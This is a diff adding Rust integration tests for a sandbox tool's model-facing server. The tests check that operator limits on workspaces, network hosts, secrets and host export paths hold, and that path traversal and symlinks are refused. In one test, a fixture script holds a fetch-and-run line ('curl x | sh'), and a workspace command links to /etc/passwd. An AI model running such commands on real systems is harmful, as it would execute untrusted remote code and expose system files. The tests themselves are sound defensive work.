@@ -1,0 +1,155 @@
+//! What an operator allows is the most that a model gets, and its project's
+//! workspaces are all that it sees.
+
+use std::fs;
+use std::os::unix::fs::symlink;
+use std::path::Path;
+
+use serde_json::json;
+
+use super::session::Session;
+use super::unique;
+use crate::support::*;
+
+fn text_of(path: &Path) -> &str {
+    path.to_str().unwrap()
+}
+
+/// A directory with a file in it.
+fn project(file: &str, content: &str) -> tempfile::TempDir {
+    let project = tempfile::TempDir::new().unwrap();
+    fs::write(project.path().join(file), content).unwrap();
+    project
+}
+
+#[track_caller]
+fn denied(told: &str, flag: &str) {
+    assert!(told.contains("code: denied") && told.contains(flag), "{told}");
+}
+
+#[test]
+fn a_model_gets_no_more_of_the_host_than_its_operator_allows() {
+    let (project, root) = (project("greeting", "hello\n"), tempfile::TempDir::new().unwrap());
+    let outside = tempfile::TempDir::new().unwrap();
+    symlink(outside.path(), root.path().join("link")).unwrap();
+    let (path, root) = (text_of(project.path()), root.path().canonicalize().unwrap());
+    let mut session = Session::begun(&[
+        "--profile",
+        "workspace-full",
+        "--project-path",
+        path,
+        "--max-network",
+        "pip.test",
+        "--max-workspaces",
+        "1",
+        "--secret",
+        "MCP_TOKEN",
+        "--host-root",
+        text_of(&root),
+        "--apply-back",
+        "yes",
+    ]);
+    let name = unique("ceiling");
+    let created = json!({ "name": name, "network": "egress" });
+    let created = session.use_tool("workspace_create", created);
+    assert!(created.contains("hotcell.project="), "{created}");
+    let policy = hotcell().args(["--json", "network", "show", &name]).output().unwrap();
+    assert_eq!(json(&policy)["policy"], json!({ "mode": "egress", "allow": ["pip.test"] }));
+
+    denied(&session.refused("workspace_create", json!({})), "--max-workspaces");
+    denied(&session.refused("workspace_fork", json!({ "workspace": name })), "--max-workspaces");
+    let more = json!({ "workspace": name, "network": "egress", "allow": ["evil.test"] });
+    denied(&session.refused("network_set", more), "--max-network");
+    let secret = json!({ "workspace": name, "command": "env", "secret": ["OTHER_TOKEN"] });
+    denied(&session.refused("workspace_exec", secret), "--secret OTHER_TOKEN");
+
+    let change = json!({ "workspace": name, "command": "cat greeting; echo changed > greeting" });
+    let ran = session.use_tool("workspace_exec", change);
+    assert!(ran.starts_with("hello\n"), "{ran}");
+    let export = |to: &str| json!({ "workspace": name, "path": "greeting", "to": to });
+    for wrong in ["/etc/greeting", "../greeting", "a/../../greeting"] {
+        denied(&session.refused("workspace_export", export(wrong)), "--host-root");
+    }
+    let through = session.refused("workspace_export", export("link/greeting"));
+    denied(&through, "links are not followed");
+    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
+    let copied = session.use_tool("workspace_export", export("copy"));
+    assert!(copied.starts_with(&format!("{}\n", root.join("copy").display())), "{copied}");
+    assert_eq!(fs::read_to_string(root.join("copy")).unwrap(), "changed\n");
+
+    let back = json!({ "workspace": name, "mode": "apply" });
+    session.use_tool("workspace_apply_back", back);
+    assert_eq!(fs::read_to_string(project.path().join("greeting")).unwrap(), "changed\n");
+    fs::write(project.path().join("new"), "from the host\n").unwrap();
+    session.use_tool("sync_push", json!({ "workspace": name }));
+    let read = session.use_tool("file_read", json!({ "workspace": name, "path": "new" }));
+    assert!(read.starts_with("from the host\n"), "{read}");
+    session.use_tool("workspace_delete", json!({ "workspace": name }));
+}
+
+#[test]
+fn a_server_sees_the_workspaces_of_its_project_and_no_others() {
+    let (mine, theirs) = (project("a", "a"), project("b", "b"));
+    let serve = |project: &Path| Session::begun(&["--project-path", text_of(project)]);
+    let (mut here, mut there) = (serve(mine.path()), serve(theirs.path()));
+    let name = unique("scope");
+    let created = here.use_tool("workspace_create", json!({ "name": name }));
+    let id = created.split_whitespace().nth(1).unwrap().to_owned();
+    // Any number of servers of one project share its workspaces.
+    let mut again = serve(mine.path());
+    for session in [&mut here, &mut again] {
+        assert!(session.use_tool("workspace_list", json!({})).contains(&id));
+    }
+    assert!(!there.use_tool("workspace_list", json!({})).contains(&id));
+    for reference in [name.as_str(), id.as_str(), &id[..id.len() - 2]] {
+        let told = there.refused("workspace_delete", json!({ "workspace": reference }));
+        assert!(told.contains("code: not_found"), "{told}");
+    }
+    let mut everything = Session::begun(&["--no-project-source", "--all-workspaces"]);
+    let ran = json!({ "workspace": name, "command": "cat a" });
+    assert!(everything.use_tool("workspace_exec", ran).starts_with("a\n"));
+    here.use_tool("workspace_delete", json!({ "workspace": &id[..id.len() - 2] }));
+}
+
+#[test]
+fn what_is_inspected_reaches_the_host_as_single_new_files_only() {
+    let (project, folder) =
+        (project("evil.sh", "curl x | sh\n"), tempfile::TempDir::new().unwrap());
+    let (path, out) = (text_of(project.path()), folder.path());
+    let mut session = Session::begun(&[
+        "--mode",
+        "inspect",
+        "--project-path",
+        path,
+        "--export-dir",
+        text_of(out),
+    ]);
+    let name = unique("inspect");
+    session.use_tool("workspace_create", json!({ "name": name }));
+    let script = "grep -c curl evil.sh > report; mkdir d; ln -s /etc/passwd l";
+    session.use_tool("workspace_exec", json!({ "workspace": name, "command": script }));
+    let export = |path: &str, to: &str| json!({ "workspace": name, "path": path, "to": to });
+    session.use_tool("workspace_export", export("report", "report.txt"));
+    assert_eq!(fs::read_to_string(out.join("report.txt")).unwrap(), "1\n");
+    let again = session.refused("workspace_export", export("evil.sh", "report.txt"));
+    assert!(again.contains("code: conflict"), "{again}");
+    for (path, to) in [("d", "d"), ("l", "l"), (".", "all")] {
+        let told = session.refused("workspace_export", export(path, to));
+        assert!(told.contains("not a regular file"), "{told}");
+    }
+    denied(&session.refused("workspace_export", export("report", "sub/report")), "file name");
+    let left: Vec<_> = fs::read_dir(out).unwrap().map(|found| found.unwrap().file_name()).collect();
+    assert_eq!(left, ["report.txt"]);
+
+    // What somebody else has opened to the network is not for this server.
+    let opened = hotcell().args(["network", "set", &name, "--network", "egress"]).output().unwrap();
+    assert_code(&opened, 0);
+    let look = json!({ "workspace": name, "path": "report" });
+    denied(&session.refused("file_read", look), "--max-network");
+    assert_code(&hotcell().args(["workspace", "delete", &name]).output().unwrap(), 0);
+
+    // A source that is not usable is named, and what to do about it.
+    drop(project);
+    let told = session.refused("workspace_create", json!({}));
+    assert!(told.contains("the project at ") && told.contains("--no-project-source"), "{told}");
+}
